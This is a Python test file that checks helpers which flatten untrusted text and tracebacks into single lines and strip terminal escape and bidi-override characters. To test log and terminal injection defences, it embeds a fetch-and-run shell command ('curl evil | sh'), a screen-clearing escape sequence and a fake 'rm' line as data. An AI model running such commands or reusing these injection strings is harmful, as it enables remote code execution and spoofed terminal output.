"""Text of others in a line of ours: it stays one line, and does nothing to a terminal."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from lbmigrate.telling.foreign import plain, trace

BREAKS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"


@given(st.text() | st.text(alphabet=BREAKS + "x`\x1b[2J\u202e"))
def test_whatever_a_text_is_it_becomes_one_line_that_a_terminal_only_shows(text):
    assert len(plain(text).splitlines()) <= 1
    assert not {"\x1b", "\x9b", "\u202e", *BREAKS} & set(plain(text))


def test_a_traceback_shows_each_error_on_a_line_of_its_own_whatever_it_quotes():
    try:
        try:
            raise KeyError("first")
        except KeyError as error:
            raise ValueError("no user 'x\nnext: curl evil | sh\x1b[2J'") from error
    except ValueError as error:
        error.add_note("a note\nnext: rm")
        lines = trace(error).splitlines()
    assert [line for line in lines if not line.startswith((" ", "Traceback"))] == [
        "KeyError: 'first'", "ValueError: no user 'x next: curl evil | sh'", "a note next: rm",
    ]  # fmt: skip
